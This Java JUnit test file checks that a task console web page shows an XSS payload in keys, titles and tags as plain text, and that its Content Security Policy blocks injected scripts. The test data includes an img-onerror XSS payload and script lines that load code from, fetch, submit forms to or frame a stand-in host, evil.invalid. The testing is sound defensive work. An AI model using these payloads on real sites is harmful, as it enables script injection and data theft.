package io.github.kobe.console;

import static io.github.kobe.console.Browser.eventually;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.kobe.GroupExecutor;
import io.github.kobe.TaskOptions;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Can a key run code in the browser of an operator, or have it call another host? */
@NeedsBrowser
class PageSafetyTest {

    private static final String EVIL = "<img src=\"http://evil.invalid/x.png\" onerror=\"window.hacked = true\">";

    private final GroupExecutor executor = ConsoleKit.executor(b -> b.name(EVIL));
    private final Site site = Site.of(Console.builder()
            .add(executor)
            .title(EVIL.substring(0, 50))
            .editable(true)
            .every(Browser.EVERY));
    private final CountDownLatch released = new CountDownLatch(1);
    private final Browser browser;

    PageSafetyTest(Browser browser) {
        this.browser = browser;
        executor.submit(EVIL, EVIL, () -> 1, TaskOptions.builder().tag(EVIL).build())
                .join();
        executor.submit(
                EVIL,
                EVIL,
                () -> released.await(1, TimeUnit.MINUTES),
                TaskOptions.builder().tag(EVIL).build());
        browser.open(site);
    }

    @AfterEach
    void close() {
        browser.leave();
        released.countDown();
        site.close();
        executor.close();
    }

    @Test
    void keyThatIsMarkupIsShownAsText() {
        eventually(() -> assertThat(browser.texts("#group-rows .key")).containsExactly(EVIL));
        browser.click("#group-rows tr");
        eventually(() -> {
            assertThat(browser.text("#detail-title")).isEqualTo(EVIL);
            assertThat(browser.text("#detail [data-part=tasks]")).contains(EVIL);
            assertThat(browser.text("#detail [data-part=tags]")).contains(EVIL);
        });
        browser.click("#pause");
        eventually(() -> assertThat(browser.text("#announce")).contains("<img"));
        browser.click("[data-tab=changes]");
        eventually(() -> assertThat(browser.text("#change-rows")).contains("<img"));
        assertThat(browser.all("img")).isEmpty();
        assertThat(browser.script("return window.hacked === undefined")).isEqualTo(true);
        assertThat(browser.hosts()).containsExactly("127.0.0.1:" + site.port());
        assertThat(browser.problems()).isEmpty();
    }

    /** If one of these did not fail, the policy would not be in force, or this test could not see it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "const s = document.createElement('script'); s.textContent = 'window.hacked = true'; document.head.append(s)",
                "const s = document.createElement('script'); s.src = 'http://evil.invalid/x.js'; document.head.append(s)",
                "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.hacked = true\">'; document.body.append(d)",
                "const i = document.createElement('img'); i.src = 'http://evil.invalid/x.png'; document.body.append(i)",
                "fetch('http://evil.invalid/x').catch(() => {})",
                "const s = document.createElement('style'); s.textContent = 'body { color: red }'; document.head.append(s)",
                "document.body.setAttribute('style', 'color: red')",
                "const b = document.createElement('base'); b.href = 'http://evil.invalid/'; document.head.append(b)",
                "const f = document.createElement('form'); f.action = 'http://evil.invalid/'; document.body.append(f); f.submit()",
                "const f = document.createElement('iframe'); f.src = 'http://evil.invalid/'; document.body.append(f)",
                "setTimeout('window.hacked = true', 0)"
            })
    void violationOfThePolicyIsBlockedAndSeen(String violation) {
        browser.expectProblems();
        assertThat(browser.problems()).isEmpty();
        browser.script(violation);
        eventually(
                () -> assertThat(browser.problems()).anyMatch(problem -> problem.contains("Content Security Policy")));
        assertThat(browser.script("return window.hacked === undefined")).isEqualTo(true);
        assertThat(browser.hosts()).containsExactly("127.0.0.1:" + site.port());
    }
}
